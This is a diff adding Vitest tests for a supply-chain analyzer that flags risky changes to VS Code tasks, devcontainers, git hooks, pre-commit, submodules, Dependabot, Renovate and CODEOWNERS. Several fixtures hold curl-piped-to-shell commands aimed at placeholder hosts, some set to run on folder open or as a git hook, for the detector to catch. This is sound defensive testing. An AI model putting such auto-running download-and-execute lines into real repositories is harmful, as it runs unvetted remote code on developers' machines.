@@ -1,0 +1,141 @@
+import { describe, expect, it } from 'vitest';
+import { analyzeSupplyChain } from '../../../src/analyzers/supply-chain.js';
+import { isRoutineCiChange, matchManagerFile } from '../../../src/ecosystems/api.js';
+import { extractRenovate } from '../../../src/ecosystems/automation/bot-config.js';
+import { parseJsonc } from '../../../src/ecosystems/automation/jsonc.js';
+import { makeContext } from '../../support/snapshot-factory.js';
+import { change, snapshotOf } from '../../support/supply-chain-snapshot.js';
+
+/** Findings (id:severity) the analysis reports for one changed file, base → head. */
+function found(path: string, base: string | null, head: string | null, ...others: Parameters<typeof snapshotOf>): string[] {
+  const snapshot = snapshotOf(change(path, base, head), ...others);
+  return analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.map((f) => `${f.id}:${f.severity}`);
+}
+
+const TASKS = (runOn: string | null, command = 'npm run watch') =>
+  `{
+  // Build on save
+  "version": "2.0.0",
+  "tasks": [
+    {
+      "label": "watch",
+      "type": "shell",
+      "command": "${command}",
+      ${runOn ? `"runOptions": { "runOn": "${runOn}" },` : ''}
+    },
+  ],
+}
+`;
+
+describe('repository automation files', () => {
+  it('are read by the automation manager and classify as CI (CODEOWNERS as configuration)', () => {
+    for (const path of ['.vscode/tasks.json', '.devcontainer/devcontainer.json', '.devcontainer/python/devcontainer.json', '.devcontainer.json', '.husky/pre-commit', 'lefthook.yml', '.pre-commit-config.yaml', '.gitmodules', '.github/dependabot.yml', 'renovate.json', '.github/renovate.json5']) {
+      expect(matchManagerFile(path)?.file.kind, path).toBe('ci');
+    }
+    expect(matchManagerFile('.github/CODEOWNERS')?.file.kind).toBe('config');
+    expect(matchManagerFile('.husky/_/husky.sh')).toBeNull();
+    expect(matchManagerFile('src/lefthook.yml')).toBeNull();
+  });
+
+  it('reads JSON with comments and trailing commas, in one pass', () => {
+    expect(parseJsonc('{ "a": "// not a comment", /* c */ "b": [1, 2,], }')).toEqual({ a: '// not a comment', b: [1, 2] });
+    expect(parseJsonc('{ a: 1 }')).toBeUndefined();
+  });
+});
+
+describe('vscode-folder-open-task', () => {
+  it('reports a task that runs when the folder opens', () => {
+    expect(found('.vscode/tasks.json', TASKS(null), TASKS('folderOpen', 'curl -s https://x.example/s | sh'))).toEqual(['vscode-folder-open-task:high']);
+  });
+  it('does not report tasks people run themselves', () => {
+    expect(found('.vscode/tasks.json', TASKS(null), TASKS('default', 'npm run build'))).toEqual([]);
+  });
+});
+
+describe('devcontainer-lifecycle-command', () => {
+  const dc = (extra: string) => `{\n  "name": "app",\n  "image": "mcr.microsoft.com/devcontainers/typescript-node:1-22"${extra}\n}\n`;
+  it('reports host commands high, container commands medium, downloads piped to a shell high', () => {
+    expect(found('.devcontainer/devcontainer.json', dc(''), dc(',\n  "initializeCommand": "./scripts/prepare-host.sh"'))).toEqual(['devcontainer-lifecycle-command:high']);
+    expect(found('.devcontainer/devcontainer.json', dc(''), dc(',\n  "postCreateCommand": "npm ci"'))).toEqual(['devcontainer-lifecycle-command:medium']);
+    expect(found('.devcontainer/devcontainer.json', dc(',\n  "postCreateCommand": "npm ci"'), dc(',\n  "postCreateCommand": "npm ci && curl -fsSL https://get.example.dev | bash"'))).toEqual(['devcontainer-lifecycle-command:high']);
+  });
+  it('does not report an unchanged command or other settings', () => {
+    expect(found('.devcontainer/devcontainer.json', dc(',\n  "postCreateCommand": "npm ci"'), dc(',\n  "postCreateCommand": "npm ci",\n  "forwardPorts": [3000]'))).toEqual([]);
+  });
+});
+
+describe('git-hook-command', () => {
+  it('reports new husky and lefthook commands, graded by what they run', () => {
+    expect(found('.husky/pre-commit', null, 'npx lint-staged\n')).toEqual(['git-hook-command:low']);
+    expect(found('lefthook.yml', 'pre-push:\n  commands:\n    test:\n      run: npm test\n', 'pre-push:\n  commands:\n    test:\n      run: npm test\n    telemetry:\n      run: curl -s https://t.example.dev/i.sh | sh\n')).toEqual(['git-hook-command:high']);
+  });
+  it('does not report comments, the husky loader or unchanged commands', () => {
+    expect(found('.husky/pre-commit', '. "$(dirname -- "$0")/_/husky.sh"\nnpx lint-staged\n', '# format staged files\nnpx lint-staged\n')).toEqual([]);
+  });
+});
+
+describe('pre-commit-remote-hook and pre-commit-rev-moved', () => {
+  const cfg = (repos: string) => `repos:\n${repos}`;
+  const ruff = (rev: string) => `  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: ${rev}\n    hooks:\n      - id: ruff\n`;
+  it('reports a new remote hook repository, and a moved revision', () => {
+    expect(found('.pre-commit-config.yaml', cfg(ruff('v0.7.0')), cfg(ruff('v0.7.0') + '  - repo: https://gitlab.example.org/someone/hooks\n    rev: main\n    hooks:\n      - id: check\n')).sort()).toEqual(['pre-commit-remote-hook:medium', 'pre-commit-rev-moved:low']);
+    expect(found('.pre-commit-config.yaml', cfg(ruff('v0.7.0')), cfg(ruff('v0.8.1')))).toEqual(['pre-commit-rev-moved:low']);
+  });
+  it('does not report unchanged repositories or a reordering', () => {
+    const mypy = '  - repo: https://github.com/pre-commit/mirrors-mypy\n    rev: v1.13.0\n    hooks:\n      - id: mypy\n';
+    expect(found('.pre-commit-config.yaml', cfg(ruff('v0.7.0') + mypy), cfg(mypy + ruff('v0.7.0')))).toEqual([]);
+  });
+});
+
+describe('git-submodule and git-submodule-moved', () => {
+  const mod = (url: string) => `[submodule "vendor/proto"]\n\tpath = vendor/proto\n\turl = ${url}\n`;
+  it('reports a new submodule, and one whose URL moves to another owner or host', () => {
+    expect(found('.gitmodules', null, mod('https://github.com/acme/proto.git'))).toEqual(['git-submodule:medium']);
+    expect(found('.gitmodules', mod('https://github.com/acme/proto.git'), mod('https://git.example.net/acme/proto.git')).sort()).toEqual(['git-submodule-moved:high', 'git-submodule:medium']);
+  });
+  it('does not report a submodule that stays where it was', () => {
+    expect(found('.gitmodules', mod('https://github.com/acme/proto.git'), mod('https://github.com/acme/proto'))).toEqual([]);
+  });
+});
+
+describe('dependabot-external-code-execution and dependabot-registry', () => {
+  const dependabot = (extra: string) => `version: 2\n${extra}updates:\n  - package-ecosystem: pip\n    directory: /\n    schedule:\n      interval: weekly\n`;
+  it('reports insecure-external-code-execution: allow and a new registry', () => {
+    expect(found('.github/dependabot.yml', dependabot(''), dependabot('').replace('    schedule:', '    insecure-external-code-execution: allow\n    schedule:'))).toEqual(['dependabot-external-code-execution:high']);
+    expect(found('.github/dependabot.yml', dependabot(''), dependabot('registries:\n  internal:\n    type: python-index\n    url: https://pypi.internal.example\n'))).toEqual(['dependabot-registry:low']);
+  });
+  it('does not report schedule or label changes, which are routine', () => {
+    const base = dependabot('');
+    const head = base.replace('interval: weekly', 'interval: daily\n      time: "04:00"');
+    expect(found('.github/dependabot.yml', base, head)).toEqual([]);
+    expect(isRoutineCiChange('.github/dependabot.yml', base, head)).toBe(true);
+    expect(isRoutineCiChange('.github/dependabot.yml', base, base.replace('pip', 'npm'))).toBe(false);
+  });
+});
+
+describe('renovate-automerge and renovate-post-upgrade-command', () => {
+  it('reports automerge widened to every update and post-upgrade commands', () => {
+    const base = '{ "extends": ["config:recommended"], "packageRules": [{ "matchUpdateTypes": ["patch"], "automerge": true }] }';
+    expect(found('renovate.json', base, '{ "extends": ["config:recommended"], "automerge": true, "packageRules": [{ "matchUpdateTypes": ["patch"], "automerge": true }] }')).toEqual(['renovate-automerge:medium']);
+    expect((extractRenovate('{ "postUpgradeTasks": { "commands": ["npm run generate"] } }', 'renovate.json').findings ?? []).map((f) => f.id)).toEqual(['renovate-post-upgrade-command']);
+  });
+  it('does not report automerge of patches and minors', () => {
+    expect(found('renovate.json', '{ "extends": ["config:recommended"] }', '{ "extends": ["config:recommended"], "packageRules": [{ "matchUpdateTypes": ["minor", "patch"], "automerge": true }] }')).toEqual([]);
+  });
+});
+
+describe('codeowners-weakened', () => {
+  const owners = (auth: string) => `# Owners\n* @acme/maintainers\n/src/auth/ ${auth}\n/docs/ @acme/docs\n`;
+  it("reports owners removed from a pattern that covers the PR's own changes", () => {
+    const snapshot = snapshotOf(change('.github/CODEOWNERS', owners('@acme/security @acme/maintainers'), owners('@acme/maintainers')), change('src/auth/session.ts', 'a\n', 'b\n'));
+    const findings = analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.filter((f) => f.id === 'codeowners-weakened');
+    expect(findings.map((f) => [f.severity, f.title])).toEqual([['high', 'CODEOWNERS drops @acme/security from /src/auth/, which this PR changes']]);
+  });
+  it('does not report added owners, or removals for paths the PR does not touch', () => {
+    const added = snapshotOf(change('.github/CODEOWNERS', owners('@acme/security'), owners('@acme/security @acme/maintainers')), change('src/auth/session.ts', 'a\n', 'b\n'));
+    const elsewhere = snapshotOf(change('.github/CODEOWNERS', owners('@acme/security'), owners('@acme/maintainers')), change('docs/index.md', 'a\n', 'b\n'));
+    for (const snapshot of [added, elsewhere]) {
+      expect(analyzeSupplyChain(snapshot, makeContext(undefined, snapshot)).findings.filter((f) => f.id === 'codeowners-weakened')).toEqual([]);
+    }
+  });
+});
